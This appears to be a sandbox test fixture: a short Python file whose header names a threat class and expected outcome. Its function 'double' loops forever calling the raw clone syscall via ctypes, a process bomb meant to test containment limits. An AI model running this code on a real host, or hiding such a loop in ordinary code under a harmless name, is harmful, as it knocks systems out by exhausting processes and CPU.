# tries: children by vfork and clone, faster than a fork bomb
# threat: E1
# expect: NP
# limits: wall_s=1 cpu_s=0.8

import ctypes
import os

libc = ctypes.CDLL(None)
NR_CLONE = 56 if os.uname().machine == 'x86_64' else 220


def double(x):
    while True:
        libc.syscall(NR_CLONE, 17, 0, 0, 0, 0)


def reverse(text):
    return text[::-1]
